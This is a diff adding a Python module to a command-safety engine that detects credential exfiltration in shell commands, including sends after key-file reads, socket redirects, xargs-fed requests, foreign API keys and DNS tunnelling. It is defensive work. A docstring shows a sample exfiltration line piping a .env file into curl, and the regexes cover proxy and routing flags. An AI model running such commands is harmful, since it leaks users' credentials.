@@ -1,0 +1,218 @@
+"""Credentials that leave this machine: read by one program, and sent by the next or in a variable."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from toolguard_engine import lazy_re
+from toolguard_engine.effects.commands import environment_dumps
+from toolguard_engine.effects.commands.combinations import MAX_PARTNERS, MAX_SHOWN, SOCKET, line_wrapper
+from toolguard_engine.effects.facts import key_owners, program_catalogue
+from toolguard_engine.effects.facts.command import UNKNOWN, Effect, ProgramRun, Reading
+from toolguard_engine.effects.facts.places import Where, place
+from toolguard_engine.effects.programs.sent_data import data_flags
+from toolguard_engine.effects.programs.web_targets import target
+
+_SENDS = frozenset({"send", "copy-out", "http"})
+_TAKES = frozenset({"read", "pack", "encrypt", "move", "link", "search"})
+RESOLVERS = program_catalogue.programs("name_resolver")
+_ENCODERS = program_catalogue.programs("encoder")
+
+
+def exfiltrations(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
+    sends = [effect for effect in found if effect.kind in _SENDS and "local" not in effect.flags and effect.run is not None]
+    sends = sends[:MAX_PARTNERS]
+    redirected = [
+        run for run in reading.runs if any(r.kind != "read" and r.target.startswith(SOCKET) for r in run.redirects)
+    ]
+    handed = any(effect.run is not None and line_wrapper(effect.run) for effect in found if effect.kind in _ASKS)
+    if not sends and not redirected and not handed:
+        return
+    targets: set[str] = set()
+    for send in sends:
+        if send.run is not None and send.target not in targets and "mail" not in send.flags | {"-"}:
+            flags = _exfiltration_flags(send, send.run, reading, found, where)
+            if flags is not None:
+                targets.add(send.target)
+                yield Effect("exfiltrate", send.target, "remote", flags, send.run)
+    for send in sends:
+        if send.run is not None and "mail" in send.flags and "credentials" in send.flags:
+            yield Effect("exfiltrate", send.target, "remote", frozenset({"mail"}), send.run)
+    yield from _exfiltrated_by_xargs(reading, found, where)
+    for run in redirected[:MAX_PARTNERS]:
+        if "credentials" in _input_flags(run, reading, where) or any(
+            e.run is run and e.place == "credentials" for e in found
+        ):
+            yield Effect("exfiltrate", run.redirects[-1].target, "remote", frozenset(), run)
+
+
+_ASKS = _SENDS | {"fetch", "connect"}
+
+
+def _exfiltrated_by_xargs(reading: Reading, found: tuple[Effect, ...], where: Where) -> Iterator[Effect]:
+    """`xargs -I{} curl "https://host/{}" < .env`: each line of a key file becomes an address or a word."""
+    asking = [effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags]
+    for effect in asking[:MAX_PARTNERS]:
+        run = effect.run
+        hander = line_wrapper(run) if run is not None else ""
+        if run is None or not hander or not any(UNKNOWN in word for word in run.argv):
+            continue
+        for wrapper in reading.runs:
+            if wrapper.name == hander and (wrapper.redirects or wrapper.stdin is not None):
+                feed = _input_flags(wrapper, reading, where)
+                read = (r.target for r in wrapper.redirects if r.kind == "read")
+                if "credentials" in feed or any(place(path, where, wrapper.cwd) == "credentials" for path in read):
+                    yield Effect("exfiltrate", effect.target.replace(UNKNOWN, "?"), "remote", frozenset(), run)
+                    break
+
+
+def _exfiltration_flags(
+    send: Effect, run: ProgramRun, reading: Reading, found: tuple[Effect, ...], where: Where
+) -> frozenset[str] | None:
+    """The flags of the `exfiltrate` effect that this sending amounts to, or None."""
+    flags = send.flags | _input_flags(run, reading, where)
+    if "credentials" in flags or (run.given and _given_secret(run, reading)):
+        return frozenset()
+    for taken in _secrets_before(run, reading, found):
+        taker = taken.run
+        if taker is None:
+            continue
+        same = taker.piped and (taker.pipeline == run.pipeline or (run.given and "$()" in taker.via))
+        if same or _through_file(taker, run, reading):
+            return frozenset() if taken.place == "credentials" else frozenset({"bulk"})
+    if "secret" in flags and _is_for_host(_variables(run), _host(send.target)) and not _goes_elsewhere(run):
+        flags -= {"secret"}
+    return frozenset({"bulk", "secret"} & flags) or None
+
+
+def _given_secret(run: ProgramRun, reading: Reading) -> bool:
+    """Whether what it sends contains the output of a program that shows kept secrets; logging in with that is ordinary."""
+    sources = {
+        name for at, feed in run.given if not _LOGS_IN.match(run.argv[at]) for name in feed.programs
+    }  # fmt: skip
+    return bool(sources) and any(
+        other.name in sources and environment_dumps.shows_secret(other) for other in reading.runs[:MAX_PARTNERS]
+    )
+
+
+_LOGS_IN = lazy_re.compile(
+    r"(?i)(?:authorization|x-api-key|private-token|x-auth-token|x-vault-token):|(?:x-access-token|oauth2?|bearer)?:?\0\Z"
+)
+
+
+def _variables(run: ProgramRun) -> list[str]:
+    """The variables that hold secrets among what a program is given."""
+    feeds = [feed for _, feed in run.given] + ([run.stdin] if run.stdin is not None else [])
+    found = [name[1:] for feed in feeds for name in feed.programs if name[:1] == "$" and name not in ("$secret", "$()")]
+    return found[:MAX_PARTNERS]
+
+
+def _is_for_host(variables: list[str], host: str) -> bool:
+    return bool(variables) and all(key_owners.belongs(name, host) for name in variables)
+
+
+def _goes_elsewhere(run: ProgramRun) -> bool:
+    """Whether a request may reach another machine than the one it names: through a proxy, or by an address of its own."""
+    if any(name.lower().endswith("_proxy") for name, _ in run.assigns):
+        return True
+    return any(_ROUTES.match(word) for word in run.argv[1:])
+
+
+_ROUTES = lazy_re.compile(
+    r"--(?:connect-to|resolve|proxy|preproxy|socks\w*|proxy\d[\w.]*|config|doh-url|unix-socket|abstract-unix-socket|interface)\b"
+    r"|-[a-zA-Z]{0,8}[xK]|-e\Z|--execute"
+)
+
+
+def _host(address: str) -> str:
+    """The host of what a request is shown as: `POST https://host/path`."""
+    method, _, rest = address.partition(" ")
+    return target(rest if method.isupper() and rest else address).host
+
+
+_ADDRESS = lazy_re.compile(r"[a-z][a-z0-9+.-]{1,20}://[^\s\"'<>]{1,500}", re.IGNORECASE)
+
+
+def foreign_keys(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
+    """A key of a known service in a request to another host, also in its headers, and in an address that is kept."""
+    asked = {id(effect.run): effect for effect in found if effect.kind in _ASKS and "local" not in effect.flags}
+    for run in reading.runs:
+        if not run.given or not (variables := _variables(run)):
+            continue
+        if effect := asked.get(id(run)):
+            hosts = {_host(effect.target)} if not {"private", "-"} & effect.flags else set()
+        else:
+            hosts = {target(match[0]).host for word in run.argv[1:MAX_SHOWN] for match in _ADDRESS.finditer(word)}
+        for host in sorted(hosts - {""}):
+            if UNKNOWN not in host and any(key_owners.is_foreign(name, host) for name in variables):
+                yield Effect("exfiltrate", host, "remote", frozenset({"secret"}), run)
+
+
+def _secrets_before(run: ProgramRun, reading: Reading, found: tuple[Effect, ...]) -> list[Effect]:
+    """Credentials read and whole folders packed before this program runs; credentials first."""
+    earlier: set[int] = set()
+    for other in reading.runs:
+        if other is run:
+            break
+        earlier.add(id(other))
+    taken = [effect for effect in found if effect.kind in _TAKES and id(effect.run) in earlier]
+    secret = [effect for effect in taken if effect.place == "credentials"]
+    whole = [effect for effect in taken if effect.place in ("root", "home", "system") and effect.kind == "pack"]
+    return secret[:MAX_PARTNERS] + whole[:MAX_PARTNERS]
+
+
+def _input_flags(run: ProgramRun, reading: Reading, where: Where) -> frozenset[str]:
+    """Flags of the data that arrives through the pipe: from the source itself and from the programs before it."""
+    flags = data_flags(run.stdin, where, run.cwd)
+    if run.stdin is None:
+        return flags
+    for other in reading.runs:
+        if other is run:
+            break
+        if (
+            other.pipeline == run.pipeline
+            and other.piped
+            and (
+                environment_dumps.shows(other)
+                or environment_dumps.shows_secret(other)
+                or any(
+                    place(word, where, other.cwd) == "credentials"
+                    for word in (*other.argv[1:16], *(r.target for r in other.redirects))
+                    if "/" in word or word.startswith(("~", "."))
+                )
+            )
+        ):
+            flags |= {"credentials"}
+    return flags
+
+
+def _through_file(taker: ProgramRun, sender: ProgramRun, reading: Reading) -> bool:
+    """Whether the sender sends a file that the taker wrote, that is, whether they share a word."""
+    written = {word.removeprefix("@") for word in taker.argv[1:] if len(word) > 2 and not word.startswith("-")}  # noqa: PLR2004 - a name, not an option
+    written.update(redirect.target for redirect in taker.redirects if redirect.kind in ("write", "append"))
+    for other in reading.runs:
+        if other.pipeline == taker.pipeline:
+            written.update(r.target for r in other.redirects if r.kind in ("write", "append"))
+    names = {word.rpartition("/")[2] for word in written} - {""}
+    words = [*sender.argv[1:], *(r.target for r in sender.redirects), *((sender.stdin.files) if sender.stdin else ())]
+    return any(_name(word) in names for word in words)
+
+
+def _name(word: str) -> str:
+    return word.rpartition("@")[2].partition(";")[0].rpartition("/")[2]
+
+
+def exfiltrated_by_dns(reading: Reading, found: tuple[Effect, ...]) -> Iterator[Effect]:
+    """DNS names assembled from pieces, beside a program that makes such pieces out of a file."""
+    secret = any(effect.place == "credentials" for effect in found)
+    if not secret and not any(
+        run.name in _ENCODERS or any(w.startswith("/etc/") for w in run.argv[1:]) for run in reading.runs
+    ):
+        return
+    for run in reading.runs:
+        if run.name in RESOLVERS and any(UNKNOWN in word and "." in word.rpartition(UNKNOWN)[2] for word in run.argv[1:]):
+            yield Effect(
+                "exfiltrate", " ".join(run.argv[1:4]).replace(UNKNOWN, "?"), "remote", frozenset({"bulk", "dns"}), run
+            )
+            return
